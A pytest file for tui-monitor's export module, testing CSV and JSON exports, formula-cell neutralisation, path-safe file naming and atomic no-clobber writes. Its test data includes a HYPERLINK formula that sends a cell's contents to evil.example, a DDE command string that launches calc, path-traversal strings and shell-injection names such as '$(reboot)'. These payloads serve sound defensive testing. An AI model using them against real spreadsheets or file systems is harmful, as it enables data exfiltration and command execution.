"""Exports against real history files written by the real writer, checked through the
independent read path (`History`), plus the atomic, no-clobber file writes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import threading
import time
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from factories import BASE, agent, at, history, snapshot, two_gpus

from tui_monitor import errors, export
from tui_monitor.export import encode, outfile, ranges
from tui_monitor.models import AgentEvent, ErrorRecord, Snapshot
from tui_monitor.store.queries import History
from tui_monitor.store.writer import Writer, resolve_error

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "../../etc/passwd",
    "/abs/olute",
    "日本語\u202eevil",
]


def alert(ts: float, rule: str, subject: str, state: str) -> AgentEvent:
    return AgentEvent(
        ts=at(ts),
        agent=subject,
        kind="alert",
        level="warning" if state == "firing" else "info",
        message=f"{rule} {subject} {state}",
        data={"rule": rule, "subject": subject, "state": state, "value": 91.5},
    )


def note(ts: float, name: str, message: str, level: Any = "info") -> AgentEvent:
    return AgentEvent(ts=at(ts), agent=name, kind="note", level=level, message=message)


def recorded() -> list[Snapshot]:
    """The ten fleet ticks, alert changes inside ticks 3, 5 and 7, and an 11th tick whose
    agents and events have hostile names and messages."""
    snaps = history()
    extra = {
        3: [alert(2.5, "cpu-high", "coder#1", "firing"), note(2.6, "planner", "thinking")],
        5: [alert(4.5, "mem-high", "vllm", "firing")],
        7: [alert(6.5, "cpu-high", "coder#1", "cleared"), note(6.9, "vllm", "=cmd|' /C calc'!A0")],
    }
    snaps = [s.model_copy(update={"events": (*s.events, *extra.get(s.seq, ()))}) for s in snaps]
    hostile = [agent(n, cpu=12.3, mem=64.0, pid=5000 + i) for i, n in enumerate(HOSTILE_NAMES)]
    events = [note(10.5, n, n, "error") for n in HOSTILE_NAMES]
    snaps.append(snapshot(11, hostile, events, gpu=two_gpus()))
    return snaps


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "history.db"
    store = Writer(path)
    try:
        snaps = recorded()
        store.write_batch(snaps[:6])
        store.write_batch(snaps[6:])
    finally:
        store.close()
    return path


@pytest.fixture
def out(tmp_path: Path) -> Path:
    path = tmp_path / "out"
    path.mkdir()
    return path


SINCE, UNTIL = at(-3600), at(3600)


def cells(value: Any) -> str:
    """How a CSV cell shows a value that is not text."""
    return "" if value is None else str(value)


# -- snapshots --------------------------------------------------------------------------


def test_snapshot_json_reread_equals_the_stored_tick(db: Path, out: Path) -> None:
    moment = export.read_moment(db, at(7.5))
    doc = export.snapshot_document(moment.snapshot, events=moment.events, alerts=moment.alerts)
    path = export.write_json(out / "snap.json", doc)
    stored = History(db).at(at(7.5))
    assert stored is not None and stored.seq == 7
    assert export.read_snapshot(path) == moment.snapshot
    assert export.read_snapshot(str(path)) == moment.snapshot
    assert moment.snapshot.cost is not None and moment.snapshot.cost.today == 0.0  # no usage
    assert moment.snapshot.model_copy(update={"cost": None}) == stored
    raw = json.loads(path.read_text())
    assert raw["format"] == "tui-monitor.snapshot" and raw["version"] == 1
    assert raw["ts"] == "2025-01-15T12:00:07.000Z"
    assert set(raw) == {
        "format", "version", "generator", "exported_at", "source", "ts", "tick", "events",
        "alerts", "errors",
    }  # fmt: skip
    # cpu-high fired in tick 3 and cleared in tick 7: only mem-high is firing then
    assert [(a["data"]["rule"], a["data"]["subject"]) for a in raw["alerts"]] == [
        ("mem-high", "vllm")
    ]
    assert raw["events"][-1]["message"] == "=cmd|' /C calc'!A0"
    assert len(raw["events"]) == 9 + 5  # fleet events and those of ticks 3, 5, 7
    assert [e["ts"] for e in raw["events"]] == sorted(e["ts"] for e in raw["events"])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_snapshot_recent_events_are_the_last_ones_up_to_the_tick(db: Path) -> None:
    moment = export.read_moment(db, at(7.5), events=3)
    expected = [e for _, e in History(db).events(end=at(7), limit=3)][::-1]
    assert moment.events == expected
    assert [e.message for e in moment.events][-1] == "=cmd|' /C calc'!A0"
    earlier = export.read_moment(db, at(4.99))
    assert earlier.snapshot.seq == 4
    assert [(a.data["rule"], a.data["state"]) for a in earlier.alerts] == [("cpu-high", "firing")]


def test_snapshot_document_needs_no_database_and_is_ascii() -> None:
    snap = recorded()[-1]
    doc = export.snapshot_document(snap, events=snap.events, source="live")
    text = export.dumps(doc, indent=2)
    assert text.isascii()
    assert "\\u65e5\\u672c\\u8a9e\\u202e" in text  # escaped, never raw
    assert export.read_snapshot(json.loads(text)) == snap
    assert doc["source"] == "live" and doc["alerts"] == []


def test_read_snapshot_refuses_other_documents(tmp_path: Path) -> None:
    snap = recorded()[0]
    doc = export.snapshot_document(snap)
    with pytest.raises(ValueError, match="not a tui-monitor snapshot"):
        export.read_snapshot({**doc, "format": "something.else"})
    with pytest.raises(ValueError, match="version '2'"):
        export.read_snapshot({**doc, "version": 2})
    bad = tmp_path / "bad.json"
    bad.write_text("[1, 2]")
    with pytest.raises(ValueError, match="not a tui-monitor snapshot"):
        export.read_snapshot(bad)


def test_non_finite_numbers_become_null() -> None:
    snap = recorded()[0]
    odd = snap.model_copy(update={"lag": float("nan"), "duration": float("inf")})
    doc = json.loads(export.dumps(export.snapshot_document(odd)))
    assert doc["tick"]["lag"] is None and doc["tick"]["duration"] is None


def test_before_the_history_starts_the_oldest_tick(db: Path, tmp_path: Path) -> None:
    """As the dashboard's `g` shows it (the caller says so: see when.shown_instead)."""
    oldest = export.read_moment(db, at(1.0))
    assert export.read_moment(db, at(-100)).snapshot == oldest.snapshot
    empty = tmp_path / "empty.db"
    Writer(empty).close()
    with pytest.raises(errors.ExportError, match=r"no tick recorded .*the history is empty"):
        export.read_moment(empty, at(0))
    with pytest.raises(errors.NoHistory, match=r"no history at .*missing\.db"):
        export.read_moment(tmp_path / "missing.db", at(0))


# -- error stacks (issue 13 item 20) -----------------------------------------------------

STACK = 'Traceback (most recent call last):\n  File "x.py", line 1\nValueError: bad\n'


def _with_errors(path: Path) -> None:
    """Ticks 1-4; an error reported in tick 2 (its event stored without data, as before
    events carried the error's type and stack), another in tick 3 with no stack."""
    snaps = [snapshot(n, [agent("coder")]) for n in (1, 2, 3, 4)]
    reported = {
        2: ErrorRecord(ts=at(1.5), agent="coder", error_type="ValueError", message="bad",
                       stack=STACK),
        3: ErrorRecord(ts=at(2.5), agent="coder", error_type="Timeout", message=""),
    }  # fmt: skip
    for n, e in reported.items():
        text = f"{e.error_type}: {e.message}" if e.message else e.error_type
        event = AgentEvent(ts=e.ts, agent="coder", kind="error", level="error", message=text)
        snaps[n - 1] = snaps[n - 1].model_copy(update={"errors": (e,), "events": (event,)})
    store = Writer(path)
    try:
        store.write_batch(snaps)
    finally:
        store.close()


def test_snapshot_lists_the_errors_open_at_the_tick_with_their_stacks(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    _with_errors(db)
    assert export.read_moment(db, at(1)).errors == []
    moment = export.read_moment(db, at(3))
    assert [(e.error_type, e.message, e.stack) for e in moment.errors] == [
        ("ValueError", "bad", STACK),
        ("Timeout", "", None),
    ]
    doc = json.loads(export.dumps(export.snapshot_document(moment.snapshot, errors=moment.errors)))
    assert doc["errors"][0] == {
        "ts": "2025-01-15T12:00:01.500000Z",
        "agent": "coder",
        "error_type": "ValueError",
        "message": "bad",
        "stack": STACK,
    }
    # Resolved at 12:00:03.5: open at tick 3, no longer at tick 4.
    [_, oldest] = History(db).unresolved_errors("coder")  # newest first
    resolve_error(db, oldest.id, at(3.5))
    assert len(export.read_moment(db, at(3)).errors) == 2
    assert [e.error_type for e in export.read_moment(db, at(4)).errors] == ["Timeout"]


def test_error_events_carry_type_and_stack_in_events_exports(tmp_path: Path) -> None:
    """Events stored before they carried it get it from the errors table."""
    db = tmp_path / "h.db"
    _with_errors(db)
    buf = io.BytesIO()
    export.export_events(db, buf, SINCE, UNTIL)
    errors = [json.loads(line) for line in buf.getvalue().splitlines()]
    assert [(e["message"], e["data"]) for e in errors if e["kind"] == "error"] == [
        ("ValueError: bad", {"error_type": "ValueError", "stack": STACK}),
        ("Timeout", {"error_type": "Timeout"}),
    ]


# -- metrics ----------------------------------------------------------------------------


def metrics_csv(db: Path, **kw: Any) -> tuple[export.Written, list[dict[str, str]]]:
    buf = io.BytesIO()
    written = export.export_metrics(db, buf, SINCE, UNTIL, **kw)
    text = buf.getvalue().decode()
    assert text.startswith(",".join(export.METRIC_COLUMNS) + "\r\n")
    return written, list(csv.DictReader(io.StringIO(text)))


def test_metrics_csv_rows_equal_the_stored_ticks(db: Path) -> None:
    written, rows = metrics_csv(db, csv_safe=False)
    history = History(db)
    by_tick: dict[int, list[dict[str, str]]] = defaultdict(list)
    for row in rows:
        by_tick[int(row["tick"])].append(row)
    assert len(by_tick) == 11 and written.rows == len(rows) == 10 * 9 + 1 + len(HOSTILE_NAMES)
    for tick, got in by_tick.items():
        snap = history.tick(tick)
        assert snap is not None
        ts = snap.ts.strftime("%Y-%m-%dT%H:%M:%S.000Z")
        gpu = sum(g.gpu_memory_used or 0 for g in snap.gpu.gpus)
        expected = [
            {
                "ts": ts, "tick": str(tick), "scope": "host", "agent": "", "status": "",
                "cpu_percent": cells(snap.host.cpu_utilization),
                "ram_bytes": cells(snap.host.ram_used), "gpu_memory_bytes": cells(gpu),
                "procs": "", "threads": "", "queue_depth": "",
            }
        ] + [
            {
                "ts": ts, "tick": str(tick), "scope": "agent", "agent": a.name,
                "status": a.status, "cpu_percent": cells(a.cpu_utilization),
                "ram_bytes": cells(a.ram_used), "gpu_memory_bytes": cells(a.gpu_memory_used),
                "procs": cells(a.procs), "threads": cells(a.threads),
                "queue_depth": cells(a.queue_depth),
            }
            for a in snap.agents
        ]  # fmt: skip
        assert got == expected
    # one value worked out by hand: vllm in tick 3 ran 100 + 4 * 31 / 3 % (kept in tenths)
    vllm3 = next(r for r in by_tick[3] if r["agent"] == "vllm")
    assert (vllm3["cpu_percent"], vllm3["ram_bytes"], vllm3["gpu_memory_bytes"]) == (
        "141.3",
        str(9216 * 2**20),
        str(40960 * 2**20),
    )
    assert next(r for r in by_tick[3] if r["scope"] == "host")["cpu_percent"] == "31.0"


def test_metrics_of_one_agent(db: Path) -> None:
    written, rows = metrics_csv(db, agent="vllm")
    assert written.rows == 10
    assert {r["agent"] for r in rows} == {"vllm"} and {r["scope"] for r in rows} == {"agent"}
    assert [r["tick"] for r in rows] == [str(i) for i in range(1, 11)]
    with pytest.raises(errors.ExportError, match="no agent named 'nobody'"):
        metrics_csv(db, agent="nobody")


def test_metrics_range_is_inclusive_and_filtered(db: Path) -> None:
    buf = io.BytesIO()
    written = export.export_metrics(db, buf, at(3), at(5))
    assert written.rows == 3 * 9
    ticks = {r["tick"] for r in csv.DictReader(io.StringIO(buf.getvalue().decode()))}
    assert ticks == {"3", "4", "5"}


def test_metrics_json_matches_the_csv(db: Path) -> None:
    _, rows = metrics_csv(db, csv_safe=False)
    buf = io.BytesIO()
    written = export.export_metrics(db, buf, SINCE, UNTIL, fmt="json")
    raw = buf.getvalue()
    assert raw.isascii()
    doc = json.loads(raw)
    assert doc["format"] == "tui-monitor.metrics" and doc["version"] == 1
    assert doc["columns"] == list(export.METRIC_COLUMNS)
    assert doc["since"] == "2025-01-15T11:00:00.000Z" and doc["agent"] is None
    assert written.rows == len(doc["rows"]) == len(rows)
    for got, want in zip(doc["rows"], rows, strict=True):
        assert {k: cells(v) for k, v in got.items()} == want
    assert {r["agent"] for r in doc["rows"]} >= set(HOSTILE_NAMES)


def test_empty_range_gives_a_valid_document(db: Path) -> None:
    buf = io.BytesIO()
    assert export.export_metrics(db, buf, at(100), at(200), fmt="json").rows == 0
    assert json.loads(buf.getvalue())["rows"] == []


def test_formula_cells_are_neutralised(db: Path) -> None:
    _, rows = metrics_csv(db)
    names = {r["agent"] for r in rows if r["tick"] == "11" and r["scope"] == "agent"}
    assert names == {
        "'" + n if n[0] in "=+-@\t\r" else n for n in HOSTILE_NAMES
    }  # fmt: skip
    assert '\'=HYPERLINK("http://evil.example/?x="&A1, "click")' in names
    assert "../../etc/passwd" in names  # only formula starts change
    _, raw = metrics_csv(db, csv_safe=False)
    assert {r["agent"] for r in raw if r["tick"] == "11" and r["scope"] == "agent"} == set(
        HOSTILE_NAMES
    )


@pytest.mark.parametrize(
    ("value", "safe", "raw"),
    [
        ("=1+2", "'=1+2", "=1+2"),
        ("+1", "'+1", "+1"),
        ("-1", "'-1", "-1"),
        ("@x", "'@x", "@x"),
        ("\tx", "'\tx", "\tx"),
        ("\rx", "'\rx", "\rx"),
        ("a=b", "a=b", "a=b"),
        ("", "", ""),
        (-5, -5, -5),
        (-2.5, -2.5, -2.5),
        (None, None, None),
        (float("nan"), "", ""),
        ({"a": "é"}, '{"a": "\\u00e9"}', '{"a": "\\u00e9"}'),
        ({}, "", ""),
    ],
)
def test_csv_cell(value: Any, safe: Any, raw: Any) -> None:
    assert export.csv_cell(value) == safe
    assert export.csv_cell(value, safe=False) == raw


def test_progress_is_reported(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ranges, "PROGRESS_EVERY", 7)
    calls: list[tuple[int, int]] = []
    written = export.export_metrics(
        db, io.BytesIO(), SINCE, UNTIL, progress=lambda d, t: calls.append((d, t))
    )
    total = written.rows
    assert calls == [(0, total), *[(n, total) for n in range(7, total + 1, 7)], (total, total)]


# -- events -----------------------------------------------------------------------------


def stored_events(db: Path) -> list[tuple[int, AgentEvent]]:
    return History(db).events(start=SINCE, end=UNTIL, limit=10_000)[::-1]


def test_events_ndjson_equal_the_stored_events(db: Path) -> None:
    buf = io.BytesIO()
    written = export.export_events(db, buf, SINCE, UNTIL)
    raw = buf.getvalue()
    assert raw.isascii()
    lines = [json.loads(line) for line in raw.decode().splitlines()]
    expected = [
        {
            "id": i, "ts": e.ts.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "agent": e.agent, "kind": e.kind, "level": e.level, "message": e.message,
            "data": e.data,
        }
        for i, e in stored_events(db)
    ]  # fmt: skip
    assert lines == expected
    assert written.rows == len(lines) == 9 + 5 + len(HOSTILE_NAMES)
    assert lines[9 + 2]["data"] == {
        "rule": "mem-high", "subject": "vllm", "state": "firing", "value": 91.5,
    }  # fmt: skip


def test_events_csv_equal_the_stored_events(db: Path) -> None:
    buf = io.BytesIO()
    export.export_events(db, buf, SINCE, UNTIL, fmt="csv", csv_safe=False)
    rows = list(csv.reader(io.StringIO(buf.getvalue().decode())))
    assert rows[0] == list(export.EVENT_COLUMNS)
    expected = [
        [
            str(i), e.ts.isoformat(timespec="milliseconds").replace("+00:00", "Z"), e.agent,
            e.kind, e.level, e.message, json.dumps(e.data) if e.data else "",
        ]
        for i, e in stored_events(db)
    ]  # fmt: skip
    assert rows[1:] == expected


def test_events_filters(db: Path) -> None:
    buf = io.BytesIO()
    written = export.export_events(db, buf, SINCE, UNTIL, agent="vllm", min_level="warning")
    lines = [json.loads(line) for line in buf.getvalue().decode().splitlines()]
    assert [(e["kind"], e["level"]) for e in lines] == [("queue", "warning"), ("alert", "warning")]
    assert written.rows == 2
    with pytest.raises(errors.ExportError, match="unknown level 'loud'"):
        export.export_events(db, io.BytesIO(), SINCE, UNTIL, min_level="loud")
    with pytest.raises(errors.ExportError, match="unknown events format 'xml'"):
        export.export_events(db, io.BytesIO(), SINCE, UNTIL, fmt="xml")


def test_event_csv_neutralises_messages(db: Path) -> None:
    buf = io.BytesIO()
    export.export_events(db, buf, at(10), UNTIL, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode())))
    assert [r["message"] for r in rows] == [
        "'" + n if n[0] in "=+-@\t\r" else n for n in HOSTILE_NAMES
    ]


# -- one transaction while the recorder writes -------------------------------------------


def test_export_reads_one_moment_while_the_recorder_writes(tmp_path: Path) -> None:
    path = tmp_path / "busy.db"
    store = Writer(path)
    names = [f"worker#{i}" for i in range(20)]
    store.write_batch([snapshot(0, [agent(n) for n in names])])
    stop = threading.Event()

    def record() -> None:
        seq = 1
        while not stop.is_set():
            store.write_batch([snapshot(seq, [agent(n, cpu=seq % 50) for n in names])])
            seq += 1

    thread = threading.Thread(target=record)
    thread.start()
    try:
        seen_counts: list[int] = []
        totals: list[int] = []
        deadline = time.monotonic() + 10
        while (len(seen_counts) < 8 or len(set(seen_counts)) < 3) and time.monotonic() < deadline:
            totals.clear()
            buf = io.BytesIO()
            written = export.export_metrics(
                path, buf, at(-10), at(100_000), progress=lambda _, t: totals.append(t)
            )
            rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode())))
            per_tick: dict[str, list[str]] = defaultdict(list)
            for r in rows:
                per_tick[r["tick"]].append(r["agent"])
            # every tick whole (host first, then all agents), the count taken in the same read
            assert all(v == ["", *sorted(names)] for v in per_tick.values())
            assert set(totals) == {written.rows} and written.rows == len(rows)
            seen_counts.append(len(per_tick))
    finally:
        stop.set()
        thread.join()
        store.close()
    assert len(set(seen_counts)) > 1, "the recorder never wrote during an export"


# -- names ------------------------------------------------------------------------------

HOSTILE_FILE_NAMES = [
    "../../etc/x", "/abs/path", "a/../../b", "..", ".", "", "\x00nul", "line\nbreak",
    "\x1b]0;title\x07", "x" * 10_000, "-rf", ".hidden", "日本語", "a b c", "C:\\win\\x",
    "%2e%2e%2f", "~root", "$(reboot)", "*", "\u202e",
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_FILE_NAMES)
def test_hostile_agent_names_stay_in_the_export_directory(
    name: str, out: Path, tmp_path: Path
) -> None:
    file_name = outfile.default_name("metrics", agent=name, at=BASE, suffix="csv")
    assert re.fullmatch(r"tui-monitor-metrics-[A-Za-z0-9_-]{1,40}-20250115T120000Z\.csv", file_name)
    path = outfile.target(out, file_name)
    assert path.parent == out
    written = outfile.write_atomic(path, ["x"])
    assert written.resolve().parent == out.resolve()
    assert os.listdir(out) == [file_name]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "xdg"]


def test_slugs() -> None:
    assert outfile.slug("coder#1") == "coder-1"
    assert outfile.slug("../../etc") == "etc"
    assert outfile.slug("...", "agent") == "agent"
    assert len(outfile.slug("a" * 10_000)) == outfile.SLUG_MAX
    assert outfile.default_name("snapshot", at=datetime(2026, 11, 21, 15, 5, 30, tzinfo=UTC)) == (
        "tui-monitor-snapshot-20261121T150530Z.json"
    )
    naive_local = datetime(2026, 11, 21, 14, 5, 30)  # naive: taken as UTC
    assert outfile.default_name("x", at=naive_local, suffix="../../sh").endswith("T140530Z.sh")
    assert outfile.default_name("x", agent="a", suffix=".csv").startswith("tui-monitor-x-a-")


def test_target(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert outfile.target(None, "n.csv") == tmp_path / "n.csv"
    assert outfile.target(tmp_path, "n.csv") == tmp_path / "n.csv"
    assert outfile.target("new/", "n.csv") == Path("new/n.csv")  # need not exist yet
    assert outfile.target("new", "n.csv") == Path("new")
    assert outfile.target(tmp_path / "f.csv", "n.csv") == tmp_path / "f.csv"


# -- atomic writes ----------------------------------------------------------------------


@pytest.fixture(params=["tmpfile", "named"])
def how(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both ways of writing: the unnamed O_TMPFILE, and the named temp file used where that
    is not supported."""
    if request.param == "named":
        monkeypatch.setattr(outfile, "_open_unnamed", lambda dirfd: None)
    return str(request.param)


def test_write_atomic_writes_a_private_file(how: str, out: Path) -> None:
    old = os.umask(0)
    try:
        path = outfile.write_atomic(out / "a.csv", ["héllo,", b"\x00bytes"])
    finally:
        os.umask(old)
    assert path == out / "a.csv"
    assert path.read_bytes() == "héllo,".encode() + b"\x00bytes"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert os.listdir(out) == ["a.csv"]


def test_nothing_is_visible_until_the_file_is_complete(how: str, out: Path) -> None:
    seen: list[list[str]] = []

    def chunks() -> Iterator[str]:
        yield "part one\n"
        seen.append(sorted(os.listdir(out)))
        yield "part two\n"

    outfile.write_atomic(out / "a.csv", chunks())
    if how == "tmpfile":
        assert seen == [[]]
    else:
        assert len(seen[0]) == 1 and re.fullmatch(r"\.a\.csv\.[0-9a-f]{12}\.tmp", seen[0][0])
    assert os.listdir(out) == ["a.csv"]


def test_a_failing_export_leaves_no_file(how: str, out: Path) -> None:
    def chunks() -> Iterator[str]:
        yield "x" * 200_000
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        outfile.write_atomic(out / "a.csv", chunks())
    assert os.listdir(out) == []


def test_never_over_an_existing_file(how: str, out: Path) -> None:
    (out / "a.csv").write_text("mine")
    with pytest.raises(FileExistsError) as info:
        outfile.write_atomic(out / "a.csv", ["theirs"])
    assert info.value.filename == str(out / "a.csv")
    assert (out / "a.csv").read_text() == "mine"
    assert os.listdir(out) == ["a.csv"]


def test_a_file_created_meanwhile_is_not_clobbered(how: str, out: Path) -> None:
    def chunks() -> Iterator[str]:
        yield "theirs"
        (out / "a.csv").write_text("mine")  # someone else, while the export runs

    with pytest.raises(FileExistsError):
        outfile.write_atomic(out / "a.csv", chunks())
    assert (out / "a.csv").read_text() == "mine"
    assert os.listdir(out) == ["a.csv"]


def test_force_replaces_a_file_and_nothing_else(how: str, out: Path) -> None:
    """Issue 13, item 15: a symlink (not even its target) or a FIFO is never replaced."""
    (out / "a.csv").write_text("old")
    outfile.write_atomic(out / "a.csv", ["new"], force=True)
    assert (out / "a.csv").read_text() == "new"
    victim = out.parent / "victim"
    victim.write_text("keep")
    (out / "link.csv").symlink_to(victim)
    os.mkfifo(out / "fifo.csv")
    for name, kind in (("link.csv", "a symbolic link"), ("fifo.csv", "a FIFO")):
        for force in (False, True):
            with pytest.raises(errors.NotAFile, match=f"{name} is {kind}, not a regular file"):
                outfile.write_atomic(out / name, ["new"], force=force)
    assert victim.read_text() == "keep" and (out / "link.csv").is_symlink()
    assert stat.S_ISFIFO((out / "fifo.csv").lstat().st_mode)
    assert sorted(os.listdir(out)) == ["a.csv", "fifo.csv", "link.csv"]


def test_unique_picks_the_next_free_name(how: str, out: Path) -> None:
    paths = [export.write_json(out / "s.json", {"n": n}) for n in range(3)]
    assert [p.name for p in paths] == ["s.json", "s-2.json", "s-3.json"]
    assert [json.loads(p.read_text())["n"] for p in paths] == [0, 1, 2]


def test_bad_directories(how: str, tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        outfile.write_atomic(tmp_path / "missing" / "a.csv", ["x"])
    (tmp_path / "file").write_text("")
    with pytest.raises(NotADirectoryError):
        outfile.write_atomic(tmp_path / "file" / "a.csv", ["x"])


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes anywhere")
def test_unwritable_directory(how: str, tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    with pytest.raises(PermissionError):
        outfile.write_atomic(locked / "a.csv", ["x"])
    assert os.listdir(locked) == []


def test_stream_sink(db: Path) -> None:
    buf = io.BytesIO()
    assert outfile.deliver(buf, ["a", b"b"]) is None
    assert buf.getvalue() == b"ab"


def test_big_export_streams_through_chunks(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = ((i, f"=row {i}") for i in range(50_000))
    chunks = list(encode.csv_chunks(("n", "text"), rows))
    assert len(chunks) > 5 and all(len(c) < outfile.CHUNK_CHARS + 100 for c in chunks)
    path = outfile.write_atomic(out / "big.csv", chunks)
    lines = path.read_text().splitlines()
    assert len(lines) == 50_001 and lines[-1] == "49999,'=row 49999"
    stamp = outfile.stamp(BASE + timedelta(hours=1))
    assert stamp == "20250115T130000Z"
